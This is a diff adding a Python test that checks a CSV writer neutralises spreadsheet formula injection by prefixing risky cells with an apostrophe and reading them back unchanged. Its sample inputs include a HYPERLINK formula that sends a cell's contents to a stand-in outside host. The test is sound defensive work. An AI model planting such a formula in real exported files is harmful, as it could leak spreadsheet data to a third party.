@@ -338,6 +338,20 @@ def test_a_csv_header_naming_a_column_twice_is_refused(tmp_path: Path) -> None:
         _read(path)
 
 
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_inert(tmp_path: Path) -> None:
+    # Content under review is untrusted: a tweet "=HYPERLINK(...)" must stay text in Excel,
+    # and read back as it was.
+    texts = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@user hi", "-1", "'=kept",
+             "+44 20 7946 0000", "plain"]
+    rows = [{"id": f"f{n}", "text": text, "annotations": [{"annotator": "a", "label": "spam"}]}
+            for n, text in enumerate(texts)]
+    path = tmp_path / "items.csv"
+    write_records(rows, path)
+    cells = [row["text"] for row in csv.DictReader(io.StringIO(path.read_text("utf-8-sig")))]
+    assert cells == ["'" + texts[0], "'@user hi", "-1", "''=kept", "'+44 20 7946 0000", "plain"]
+    assert [i.content.text for i in _valid(_read(path))] == texts
+
+
 def test_a_tsv_output_is_tab_separated_and_reads_back(tmp_path: Path) -> None:
     path = tmp_path / "items.TSV"
     rows = _dump(_items())
